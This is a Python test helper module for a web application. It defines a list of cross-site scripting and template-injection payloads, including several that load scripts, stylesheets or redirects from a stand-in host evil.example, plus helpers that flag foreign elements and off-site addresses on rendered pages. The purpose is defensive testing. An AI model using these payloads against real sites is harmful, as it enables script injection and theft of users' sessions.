"""Strings that break software, and what a page must look like that they did not break."""

import json
from pathlib import Path

import pytest

from tests.pages.reading import Node

LIST = Path(__file__).resolve().parents[3] / "shared" / "data" / "naughty-strings" / "blns.json"
ADDRESSES = {"href", "src", "action", "formaction", "hx-get", "hx-post", "data-href"}
PASSING = {"data-tint", "aria-describedby", "aria-invalid", "autofocus"}  # as data and refusals have it
# Scripts as an attacker would type them: as elements, out of attributes, out of other contexts, as addresses.
SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)"//',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>1</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '" autofocus onfocus=alert(1) "',
    "` onmouseover=alert(1)`",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7 * 191 }}",
    "{% include 'sign_in.html' %}",
    "${7*191}",
    "<%= 7 * 191 %>",
    '" hx-get="//evil.example',
    '" hx-on:click="alert(1)',
    "<div hx-get=//evil.example hx-trigger=load>",
    "\u2028\u2029<script>",
    "＜script＞alert(1)＜/script＞",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<bdo dir=rtl>",
    "\u202eevil\u202c",
)


def naughty() -> list[str]:
    """The Big List of Naughty Strings; the test is skipped where the list is not beside the project."""
    if not LIST.is_file():
        pytest.skip(f"the list of naughty strings is missing: {LIST}")
    return json.loads(LIST.read_text())


class Vocabulary:
    """The elements, with their attributes, that the desk's own pages are made of."""

    def __init__(self, *pages: Node) -> None:
        self.known = {spoken(node) for page in pages for node in page.every()}

    def foreign(self, page: Node) -> list[Node]:
        """The elements of a page that the desk does not write, and those that lead elsewhere."""
        return [node for node in page.every() if spoken(node) not in self.known or leads_elsewhere(node)]


def spoken(node: Node) -> tuple[str, frozenset[str]]:
    """An element as a word: its tag and the names of its attributes, but those that come and go."""
    return node.tag, frozenset(node.attrs) - PASSING


def leads_elsewhere(node: Node) -> bool:
    """Whether it has an address that is not a path of ours; `//` begins another site's."""
    return any(
        not value.startswith(("/", "#")) or value.startswith("//")
        for name, value in node.attrs.items()
        if name in ADDRESSES
    )
